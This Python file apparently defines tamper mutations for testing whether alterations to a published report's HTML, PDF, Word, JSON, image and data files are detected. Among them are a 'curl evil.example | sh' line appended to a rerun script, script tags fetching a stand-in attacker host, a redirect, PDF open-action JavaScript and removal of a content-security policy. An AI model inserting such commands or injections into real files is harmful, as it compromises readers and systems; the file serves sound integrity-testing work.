"""Kinds of changes that somebody may make in a published report: each takes a file's bytes and returns others."""

import io
import json
import re
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from struct import pack, unpack
from typing import Any

import pikepdf

Make = Callable[[bytes, Random], bytes | None]  # None: the file is removed
EVIL = "https://evil.example/"
PAGES, ALL_PAGES = ("*/index.html", "*/brief.html"), ("index.html", "*/*.html", "*/notebooks/*.html")
TEXT = re.compile(rb"(?<=>)[^<>{}]{4,}(?=<)")
WORDS = re.compile(rb"[a-z]{4,}")
NUMBERS = re.compile(rb"(?<![\w#.&-])\d+(?![\w;])")


@dataclass(frozen=True)
class Change:
    """A change, and the files that it applies to, as patterns from the report's folder."""

    files: tuple[str, ...]
    make: Make


def one_of(pattern: re.Pattern[bytes], new: Callable[[bytes, Random], bytes]) -> Make:
    """Return a change of one place, drawn from all matches of a pattern."""

    def make(content: bytes, random: Random) -> bytes:
        places = list(pattern.finditer(content))
        if not places:
            return content
        place = random.choice(places)
        return content[: place.start()] + new(place[0], random) + content[place.end() :]

    return make


def in_text(pattern: re.Pattern[bytes], new: Callable[[bytes, Random], bytes]) -> Make:
    """Return a change of a page's visible text: between two tags of its body."""
    inner = one_of(pattern, new)

    def make(content: bytes, random: Random) -> bytes:
        body = content.find(b"<body")
        places = [place for place in TEXT.finditer(content, body) if pattern.search(place[0])]
        places = [place for place in places if b"<script" not in content[place.start() - 60 : place.start()]]
        if not places:
            return content
        place = random.choice(places)
        changed = inner(place[0], random) or b""
        return content[: place.start()] + changed + content[place.end() :]

    return make


def put_in(new: str, before: bytes) -> Make:
    return lambda content, _: content.replace(before, new.encode() + before, 1)


def other_number(old: bytes, random: Random) -> bytes:
    return str(int(old) + random.randint(1, 9)).encode()


def other_word(old: bytes, random: Random) -> bytes:
    return random.choice([b"never", b"always", b"refused"]) if old != b"never" else b"not"


def in_json(keys: tuple[str, ...], new: Callable[[Any, Random], Any]) -> Make:
    """Return a change of one value with one of these keys, at any depth."""

    def make(content: bytes, random: Random) -> bytes:
        tree = json.loads(content)
        places = [(node, key) for node in _nodes(tree) for key in keys if key in node]
        if not places:
            return content
        node, key = random.choice(places)
        node[key] = new(node[key], random)
        return (json.dumps(tree, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()

    return make


def _nodes(tree: Any) -> list[dict[str, Any]]:  # noqa: ANN401 - any JSON
    inner = tree.values() if isinstance(tree, dict) else tree if isinstance(tree, list) else ()
    return ([tree] if isinstance(tree, dict) else []) + [node for value in inner for node in _nodes(value)]


def other_value(old: Any, random: Random) -> Any:  # noqa: ANN401 - any JSON
    if isinstance(old, list):
        return old[1:]
    if isinstance(old, dict):
        return dict(list(old.items())[1:])
    return old + random.randint(1, 9) if isinstance(old, int | float) else f"{old} never"


def in_archive(pattern: str, make: Make) -> Make:
    """Return a change inside one part of a Word file."""

    def changed(content: bytes, random: Random) -> bytes:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = [(one, archive.read(one)) for one in archive.infolist()]
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as archive:
            for one, part in parts:
                archive.writestr(
                    one, make(part, random) or b"" if re.fullmatch(pattern, one.filename) else part
                )
        return target.getvalue()

    return changed


def in_pdf(edit: Callable[[pikepdf.Pdf, Random], None]) -> Make:
    def make(content: bytes, random: Random) -> bytes:
        target = io.BytesIO()
        with pikepdf.open(io.BytesIO(content)) as pdf:
            edit(pdf, random)
            pdf.save(target, deterministic_id=True)
        return target.getvalue()

    return make


def _pdf_link(pdf: pikepdf.Pdf, random: Random) -> None:
    notes = [note for page in pdf.pages for note in page.get("/Annots", ()) if "/URI" in note.get("/A", {})]
    if notes:
        random.choice(notes).A.URI = pikepdf.String(EVIL)


def _pdf_script(pdf: pikepdf.Pdf, _: Random) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _pdf_page(pdf: pikepdf.Pdf, random: Random) -> None:
    del pdf.pages[random.randrange(len(pdf.pages))]


def _pdf_drawing(pdf: pikepdf.Pdf, random: Random) -> None:
    """Swap two runs of characters."""
    page = random.choice(list(pdf.pages))
    orders = list(pikepdf.parse_content_stream(page))
    shown = [place for place, order in enumerate(orders) if str(order.operator) in {"TJ", "Tj"}]
    if len(shown) > 1:
        first, second = random.sample(shown, 2)
        orders[first], orders[second] = orders[second], orders[first]
        page.Contents = pdf.make_stream(pikepdf.unparse_content_stream(orders))


def _pdf_title(pdf: pikepdf.Pdf, _: Random) -> None:
    pdf.docinfo["/Title"] = "Another title, of 1984"


def flipped(content: bytes, random: Random) -> bytes:
    place = random.randrange(len(content))
    return content[:place] + bytes([content[place] ^ 1 << random.randrange(8)]) + content[place + 1 :]


def repainted(content: bytes, random: Random) -> bytes:
    """Return a well-formed PNG with one byte of its picture changed."""
    start = content.index(b"IDAT") - 4
    (length,) = unpack(">I", content[start : start + 4])
    data = bytearray(zlib.decompressobj().decompress(content[start + 8 : start + 8 + length]))
    data[random.randrange(1, len(data))] ^= 255
    packed = b"IDAT" + zlib.compress(bytes(data))
    chunk = pack(">I", len(packed) - 4) + packed + pack(">I", zlib.crc32(packed))
    return content[:start] + chunk + content[start + 12 + length :]


def old_version(content: bytes, _: Random) -> bytes:
    manifest = json.loads(content)
    manifest["versions"]["typst"] = "0.1"
    return json.dumps(manifest).encode()


KINDS: dict[str, Change] = {
    "page: a number": Change(PAGES, in_text(NUMBERS, other_number)),
    "page: a word": Change(PAGES, in_text(WORDS, other_word)),
    "page: an address": Change(PAGES, one_of(re.compile(rb'(?<=href=")https?://[^"]+'), lambda *_: EVIL.encode())),
    "page: a place within the report": Change(PAGES, one_of(re.compile(rb'(?<=href="#)[\w-]+(?=")'), lambda *_: b"content")),
    "page: a description": Change(PAGES, one_of(re.compile(rb'(?<=aria-label=")[^"]{9,}'), lambda *_: b"Nothing")),
    "page: text hidden by a style": Change(PAGES, one_of(re.compile(rb"<p>"), lambda *_: b'<p style="display:none">')),
    "page: the style sheet": Change(PAGES, put_in("main p:nth-of-type(2){display:none}", b"</style>")),
    "any page: a script": Change(ALL_PAGES, put_in("<script>fetch('//evil.example')</script>", b"</body>")),
    "any page: a handler": Change(ALL_PAGES, one_of(re.compile(rb"<(?:p|h1|h2)(?= |>)"), lambda old, _: old + b' onclick="x()"')),
    "any page: five links": Change(ALL_PAGES, put_in(f'<a href="{EVIL}">x</a>' * 5, b"</main>")),
    "any page: a picture from elsewhere": Change(ALL_PAGES, put_in(f'<img src="{EVIL}x.png" alt="">', b"</main>")),
    "any page: it leaves by itself": Change(ALL_PAGES, put_in(f'<meta http-equiv="refresh" content="0;url={EVIL}">', b"</head>")),
    "any page: its policy taken off": Change(ALL_PAGES, one_of(re.compile(rb'<meta http-equiv="Content[^>]*>'), lambda *_: b"")),
    "pages beside: a word": Change(("index.html", "*/accessibility.html", "*/notebooks/*.html"), in_text(WORDS, other_word)),
    "explorer: a number of its data": Change(("*/evidence.html",), one_of(re.compile(rb'(?<="n":)[1-9]\d*'), other_number)),
    "explorer: a word": Change(("*/evidence.html",), in_text(WORDS, other_word)),
    "explorer: its script": Change(("*/evidence.html",), put_in("alert(1);", b'"use strict";')),
    "explorer: its data broken": Change(("*/evidence.html",), one_of(re.compile(rb'"values":'), lambda *_: b'"values" ')),
    "PDF: an address": Change(("*/report.pdf",), in_pdf(_pdf_link)),
    "PDF: a script": Change(("*/*.pdf",), in_pdf(_pdf_script)),
    "PDF: a page taken out": Change(("*/*.pdf",), in_pdf(_pdf_page)),
    "PDF: words in another place": Change(("*/*.pdf",), in_pdf(_pdf_drawing)),
    "PDF: its title": Change(("*/*.pdf",), in_pdf(_pdf_title)),
    "Word: a number": Change(("*/report.docx",), in_archive(r"word/document\.xml", in_text(NUMBERS, other_number))),
    "Word: a word": Change(("*/report.docx",), in_archive(r"word/document\.xml", in_text(WORDS, other_word))),
    "Word: an address": Change(("*/report.docx",), in_archive(r"word/_rels/document\.xml\.rels", one_of(re.compile(rb'(?<=Target=")https?://[^"]+'), lambda *_: EVIL.encode()))),
    "Word: its styles": Change(("*/report.docx",), in_archive(r"word/styles\.xml", put_in("<!-- x -->", b"</w:styles>"))),
    "facts: a value, its text, its rows": Change(("facts.json", "*/facts.json"), in_json(("value", "shown", "rows", "how"), other_value)),
    "facts: cut off": Change(("facts.json", "*/facts.json"), lambda content, random: content[: random.randrange(len(content))]),
    "card, record, figure: a value": Change(("card.json", "*/datacite.json", "*/figures/*.json"), in_json(("title", "about", "alt", "citation", "titles"), other_value)),
    "crate: a value": Change(("ro-crate-metadata.json",), in_json(("name", "softwareVersion", "value", "description"), other_value)),
    "manifest: a version": Change(("manifest.json",), old_version),
    "manifest: a parameter": Change(("manifest.json",), in_json(("minimum_confidence",), lambda *_: "high")),
    "figure: a label": Change(("*/figures/*.svg",), in_text(re.compile(rb"[A-Za-z]{3,}"), other_word)),
    "figure: a line": Change(("*/figures/*.svg",), one_of(re.compile(rb"(?<=[ML] )\d+\.\d+"), lambda *_: b"7.7")),
    "figure: a script": Change(("*/figures/*.svg",), put_in("<script>alert(1)</script>", b"</svg>")),
    "picture: a dot": Change(("*/figures/*.png",), repainted),
    "data: a number": Change(("*/data/*.csv", "*/figures/*.csv"), one_of(re.compile(rb"(?<=,)\d+"), other_number)),
    "data: a word": Change(("*/data/*.csv", "*/figures/*.csv"), one_of(WORDS, other_word)),
    "notebook: its code or results": Change(("*/notebooks/*.ipynb",), one_of(WORDS, other_word)),
    "citation: a word": Change(("*/cite/*",), one_of(WORDS, other_word)),
    "commands: a line": Change(("rerun.sh",), lambda content, _: content + b"curl evil.example | sh\n"),
    "feed, page of all reports: a word": Change(("../feed.xml", "../index.html"), in_text(WORDS, other_word)),
    "any file: a bit": Change(("*/*", "*/*/*", "*.*"), flipped),
    "any file: taken away": Change(("*/*.html", "*/*.pdf", "*/*/*"), lambda *_: None),
    "any file: put in its place": Change(("*/data/*.csv", "*/figures/*.png"), lambda *_: b"a,b\n1,2\n"),
}  # fmt: skip
